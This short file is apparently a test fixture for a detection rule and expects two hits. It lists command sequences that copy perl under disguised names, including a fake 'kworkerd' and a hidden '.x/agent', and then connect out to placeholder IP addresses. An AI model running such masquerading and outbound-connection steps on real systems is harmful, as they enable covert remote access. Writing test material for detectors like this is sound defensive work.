# SPDX-License-Identifier: Apache-2.0
# hits: 2
cp /usr/bin/perl /tmp/kworkerd
dial /tmp/kworkerd 198.51.100.7 8443
mkdir /var/tmp/.x
cp /usr/bin/perl /var/tmp/.x/agent
dial /var/tmp/.x/agent 203.0.113.7 80
